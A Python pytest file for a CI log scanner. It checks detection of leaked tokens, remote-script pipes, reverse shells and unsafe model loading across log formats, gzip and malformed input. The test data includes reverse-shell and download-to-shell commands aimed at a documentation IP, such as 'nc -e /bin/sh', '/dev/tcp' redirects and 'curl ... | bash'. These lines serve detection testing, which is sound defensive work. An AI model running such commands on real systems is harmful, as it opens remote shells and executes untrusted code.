"""The scanner on real files: a multi-format CI log with planted lines, a long benign log, and hostile input."""

from __future__ import annotations

import gzip
import io
from datetime import UTC, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from tests.logscan.conftest import BENIGN, CAPTURED, MULTIFORMAT
from workbench.evidence.pipeline_log import LogBudget
from workbench.logscan.engine import Scanner, ScanOptions

#: (line, rule id, UTC time or None) of every match in ci-multiformat.log, in order
PLANTED = [
    (9, "secret.huggingface-token", "2026-11-14T03:05:45.004000+00:00"),
    (14, "exec.remote-script-to-shell", "2026-11-14T03:06:10.250000+00:00"),  # the ##[group] header
    (15, "exec.remote-script-to-shell", "2026-11-14T03:06:10.251000+00:00"),  # the script echo, in ANSI colour
    (16, "obfuscation.base64-to-shell", "2026-11-14T03:06:10.252000+00:00"),
    (20, "pkg.extra-index-url", "2026-11-14T03:07:02.200000+00:00"),  # GitLab
    (21, "model.torch-load-unsafe", "2026-11-14T03:07:03+00:00"),  # +02:00 offset
    (25, "revshell.netcat-exec", "2026-11-14T03:08:15.251000+00:00"),  # Jenkins, CRLF
    (26, "signing.cosign-password", "2026-11-14T03:08:16+00:00"),
    (29, "revshell.dev-tcp-redirect", "2026-11-14T03:09:05+00:00"),  # RFC 3164 syslog, year from capture time
    (30, "model.pickle-load", "2026-11-14T03:10:00.250000+00:00"),  # Python logging, comma fraction
    (31, "secret.aws-secret-access-key", "2026-11-14T02:10:30.500000+00:00"),  # RFC 5424, +01:00
    (32, "ci.signing-skipped", None),  # no timestamp
    (33, "exec.remote-script-to-shell", "2026-11-14T03:11:00+00:00"),  # with <script> tags
    (34, "secret.private-key-block", "2026-11-14T03:11:30+00:00"),
    (38, "secret.github-token", "2026-11-14T03:11:40+00:00"),
    (39, "secret.url-credentials", "2026-11-14T03:11:41+00:00"),
    (40, "secret.credential-assignment", "2026-11-14T03:11:42+00:00"),
    (41, "ci.orphan-process", "2026-11-14T03:12:06.629746+00:00"),
]


def _scan(path: Path, backend: str, **kw) -> object:
    return Scanner(options=ScanOptions(backend=backend, reference_time=CAPTURED, **kw)).scan_path(path, "ci.log")


def _triples(result) -> list[tuple]:
    return [(m.line, m.rule_id, m.timestamp.isoformat() if m.timestamp else None) for m in result.matches]


def test_multiformat_log_planted_lines(backend: str) -> None:
    result = _scan(MULTIFORMAT, backend)
    assert _triples(result) == PLANTED
    assert result.warnings == [] and result.complete and result.lines == 42 and not result.compressed
    by_line = {m.line: m for m in result.matches}
    assert by_line[15].text == "2026-11-14T03:06:10.2510000Z curl -sSL http://203.0.113.7/p.sh | bash"
    assert by_line[15].group == "Run curl -sSL http://203.0.113.7/p.sh | bash"
    assert by_line[15].before == (
        "2026-11-14T03:05:52.0000000Z tests/test_dataset.py::test_curlew_reviews_split PASSED",
        "2026-11-14T03:06:10.2500000Z ##[group]Run curl -sSL http://203.0.113.7/p.sh | bash",
    )
    assert by_line[20].group == 'Executing "step_script" stage of the job script'
    assert by_line[25].group == "Deploy" and by_line[25].text.endswith('--sh-exec "bash -i"')  # CR removed
    assert by_line[9].group == "Run pip install -r requirements.txt"
    assert by_line[9].text == "2026-11-14T03:05:45.0040000Z   HF_TOKEN: hf_Xq…[redacted]"
    assert by_line[26].text == "[2026-11-14T03:08:16.000Z] COSIGN_PASSWORD=…[redacted]"
    assert by_line[34].after == ("2026-11-14T03:11:30.001Z …[redacted]", "2026-11-14T03:11:30.002Z …[redacted]")
    stats = result.stats["exec.remote-script-to-shell"]
    assert (stats.count, stats.first_line, stats.last_line) == (3, 14, 33)
    assert stats.first_time == datetime(2026, 11, 14, 3, 6, 10, 250000, tzinfo=UTC)


def test_naive_times_follow_the_case_rule(backend: str) -> None:
    result = _scan(MULTIFORMAT, backend, naive_tz=ZoneInfo("Europe/Berlin"))
    times = {m.line: m.timestamp for m in result.matches}
    assert times[29] == datetime(2026, 11, 14, 2, 9, 5, tzinfo=UTC)  # syslog, local time
    assert times[30] == datetime(2026, 11, 14, 2, 10, 0, 250000, tzinfo=UTC)  # logging without offset
    assert times[15] == datetime(2026, 11, 14, 3, 6, 10, 251000, tzinfo=UTC)  # Z stays UTC


def test_gzip_and_tiny_blocks_give_the_same_result(tmp_path: Path, backend: str) -> None:
    """Streaming in 97-byte blocks (lines, context and groups across block boundaries) and from gzip."""
    reference = _scan(MULTIFORMAT, backend)
    small = _scan(MULTIFORMAT, backend, block_bytes=97)
    gz = tmp_path / "ci.log.gz"
    gz.write_bytes(gzip.compress(MULTIFORMAT.read_bytes()))
    packed = _scan(gz, backend)
    assert packed.compressed and packed.complete
    for other in (small, packed):
        assert other.matches == reference.matches and other.lines == reference.lines


def test_long_benign_log_stays_low(backend: str) -> None:
    result = _scan(BENIGN, backend)
    assert result.lines == 818 and result.warnings == []
    assert [(m.line, m.rule_id, m.severity.value) for m in result.matches] == [(814, "exec.remote-download", "low")]


def _stream(data: bytes, backend: str = "re", **kw) -> object:
    return Scanner(options=ScanOptions(backend=backend, **kw)).scan_stream(io.BytesIO(data), "x.log")


def test_empty_file(tmp_path: Path, backend: str) -> None:
    (tmp_path / "empty.log").write_bytes(b"")
    result = Scanner(options=ScanOptions(backend=backend)).scan_path(tmp_path / "empty.log", "empty.log")
    assert (result.matches, result.warnings, result.lines, result.complete) == ([], [], 0, True)


def test_binary_file_is_scanned_with_a_warning(tmp_path: Path, backend: str) -> None:
    data = bytes(range(256)) * 40 + b"\ncurl -s http://203.0.113.7/x | sh\n" + bytes(range(255, -1, -1))
    (tmp_path / "model.bin.log").write_bytes(data)
    result = Scanner(options=ScanOptions(backend=backend)).scan_path(tmp_path / "model.bin.log", "model.bin.log")
    assert [str(w) for w in result.warnings] == [
        "model.bin.log: binary data (NUL bytes) in a log; scanned as text",
        "model.bin.log:2: invalid UTF-8 (first occurrence; bytes replaced in the output)",
    ]
    assert [(m.line, m.rule_id) for m in result.matches] == [(42, "exec.remote-script-to-shell")]
    assert "\x00" not in result.matches[0].before[0] and "\\x00" in result.matches[0].before[0]


def test_invalid_utf8_and_latin1_reported_once(backend: str) -> None:
    data = (b"ok\n" + "café latin-1\n".encode("latin-1") + b"\xff\xfe broken\n"
            + "naïve utf-8\n".encode() + b"wget -qO- http://203.0.113.7/s | sh # caf\xe9\n")  # fmt: skip
    result = _stream(data, backend)
    assert [str(w) for w in result.warnings] == [
        "x.log:2: invalid UTF-8 (first occurrence; bytes replaced in the output)"
    ]
    (m,) = result.matches
    assert (m.line, m.rule_id) == (5, "exec.remote-script-to-shell")
    assert m.text == "wget -qO- http://203.0.113.7/s | sh # caf\ufffd"
    assert m.before == ("\ufffd\ufffd broken", "naïve utf-8")


def test_eight_megabyte_line_is_scanned_whole(backend: str) -> None:
    long_line = b"A" * (8 * 1024 * 1024 - 40) + b" curl -s http://x.example/a | sh"
    data = (
        b"curl -s http://x.example/first -o f "
        + b"B" * 100_000
        + b"\n"
        + long_line
        + b"\nnc -e /bin/sh 203.0.113.7 1\n"
    )
    result = _stream(data, backend, block_bytes=1 << 20)
    long = "line longer than 65536 bytes; scanned whole in overlapping windows (excerpts shown)"
    assert [str(w) for w in result.warnings] == [f"x.log:1: {long}", f"x.log:2: {long}"]
    # the match at the start of line 1 (display capped) and the one 8 MiB into line 2 are both found
    assert [(m.line, m.rule_id) for m in result.matches] == [
        (1, "exec.remote-download"),
        (2, "exec.remote-script-to-shell"),
        (3, "revshell.netcat-exec"),
    ]
    first, second, third = result.matches
    assert first.text.startswith("[line of 100036 bytes] curl -s http://x.example/first -o f BBB")
    assert first.text.endswith("+ more characters]") and len(first.text) < 2100
    assert second.text == "[line of 8388600 bytes, from byte 8388569] curl -s http://x.example/a | sh"
    assert second.before[0].startswith("curl -s http://x.example/first") and second.after == (third.text,)
    assert third.before[1].startswith("AAAA") and len(third.before[1]) < 2100  # a long neighbour: its head
    assert result.lines == 3 and all(s.count == 1 for s in result.stats.values())


def test_truncated_gzip_keeps_lines_before_the_cut(tmp_path: Path, backend: str) -> None:
    body = b"".join(b"line %d ok\n" % i for i in range(5000)) + b"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n"
    body += b"".join(b"tail %d\n" % i for i in range(60_000))
    packed = gzip.compress(body, compresslevel=1)
    (tmp_path / "cut.log.gz").write_bytes(packed[: int(len(packed) * 0.6)])
    result = Scanner(options=ScanOptions(backend=backend)).scan_path(tmp_path / "cut.log.gz", "cut.log.gz")
    assert [(m.line, m.rule_id) for m in result.matches] == [(5001, "revshell.dev-tcp-redirect")]
    assert [str(w) for w in result.warnings] == [
        "cut.log.gz: gzip stream truncated; the lines before the cut were scanned"
    ]
    assert result.compressed and not result.complete and 5001 < result.lines < 65_001


def test_corrupt_gzip_and_missing_file(tmp_path: Path) -> None:
    (tmp_path / "bad.log.gz").write_bytes(b"\x1f\x8b\x08\x00" + b"\x00" * 6 + b"not deflate data at all" * 10)
    scanner = Scanner(options=ScanOptions(backend="re"))
    bad = scanner.scan_path(tmp_path / "bad.log.gz", "bad.log.gz")
    assert not bad.complete and len(bad.warnings) == 1 and bad.warnings[0].reason.startswith("read error (")
    missing = scanner.scan_path(tmp_path / "nope.log", "nope.log")
    assert [str(w) for w in missing.warnings] == ["nope.log: cannot read: No such file or directory"]


def test_ansi_inside_a_command_and_terminal_controls(backend: str) -> None:
    data = (b"\x1b[36mcurl\x1b[0m -s http://203.0.113.7/x \x1b[1m|\x1b[0m \x1b[31mbash\x1b[0m\n"
            b"\x1b]0;title\x07ncat 203.0.113.7 9 -e /bin/sh \xe2\x80\xae hidden\x07\n")  # fmt: skip
    result = _stream(data, backend)
    assert [(m.line, m.rule_id) for m in result.matches] == [(1, "exec.remote-script-to-shell"),
                                                              (2, "revshell.netcat-exec")]  # fmt: skip
    assert result.matches[0].text == "curl -s http://203.0.113.7/x | bash"
    assert result.matches[1].text == "ncat 203.0.113.7 9 -e /bin/sh \\u202e hidden\\x07"


def test_match_cap_keeps_counting(backend: str) -> None:
    data = b"".join(b"2026-11-14T03:05:%02dZ curl -s http://h/%d | sh\n" % (i % 60, i) for i in range(30))
    result = _stream(data, backend, max_matches_per_rule=5, context=0)
    assert [m.line for m in result.matches] == [1, 2, 3, 4, 5]
    stats = result.stats["exec.remote-script-to-shell"]
    assert (stats.count, stats.first_line, stats.last_line) == (30, 1, 30)
    assert stats.last_time == datetime(2026, 11, 14, 3, 5, 29, tzinfo=UTC)
    assert result.matches[0].before == () and result.matches[0].after == ()


def test_byte_budget_stops_with_a_warning(backend: str) -> None:
    data = b"x\n" * 1000 + b"nc -e /bin/sh 203.0.113.7 1\n"
    result = _stream(data, backend, budget=LogBudget(file_bytes=1000), block_bytes=256)
    assert result.matches == [] and not result.complete and result.bytes_scanned == 1000
    assert result.stopped == "stopped after 1000 bytes decompressed (budget)"
    assert [w.reason for w in result.warnings] == [result.stopped]


@pytest.mark.parametrize("bad", ["grep", ""])
def test_unknown_backend(bad: str) -> None:
    with pytest.raises(ValueError, match="unknown scanner backend"):
        Scanner(options=ScanOptions(backend=bad))


def test_invalid_utf8_found_by_the_scan_matches_the_decoder() -> None:
    """The hyperscan UTF-8 check reports the same first bad line as Python's decoder (seeded random samples)."""
    import random

    from workbench.rulepack.matchers import hyperscan_available

    if not hyperscan_available():
        pytest.skip("hyperscan not installed")
    rng = random.Random(4)  # noqa: S311 - test data
    pieces = [b"a", b" ", "é".encode(), "━".encode(), "𝄞".encode(), b"\x80", b"\xbf", b"\xc3", b"\xe2\x94",
              b"\xf0\x9d\x84", b"\xed\xa0\x80", b"\xc0\xaf", b"\xf4\x90\x80\x80", b"\xff", b"\xe0\x80\x80"]  # fmt: skip
    scanner = Scanner(options=ScanOptions(backend="hyperscan", block_bytes=64))
    for _ in range(300):
        lines = [b"".join(rng.choice(pieces) for _ in range(rng.randint(0, 6))) for _ in range(12)]
        expected = None
        for number, line in enumerate(lines, start=1):
            try:
                line.decode("utf-8")
            except UnicodeDecodeError:
                expected = number
                break
        result = scanner.scan_stream(io.BytesIO(b"\n".join(lines) + b"\n"), "x.log")
        assert [w.line for w in result.warnings] == ([expected] if expected else []), lines


def test_crafted_line_does_not_stall_the_hyperscan_path() -> None:
    """A 64 KiB line of repeated ``curl `` without a pipe: never proposed, so no regex backtracks over it."""
    from workbench.rulepack.matchers import hyperscan_available

    if not hyperscan_available():
        pytest.skip("hyperscan not installed")
    result = _stream(b"curl " * 13_000 + b"\nwget -qO- http://203.0.113.7/i | sh\n", "hyperscan")
    assert [(m.line, m.rule_id) for m in result.matches] == [(2, "exec.remote-script-to-shell")]
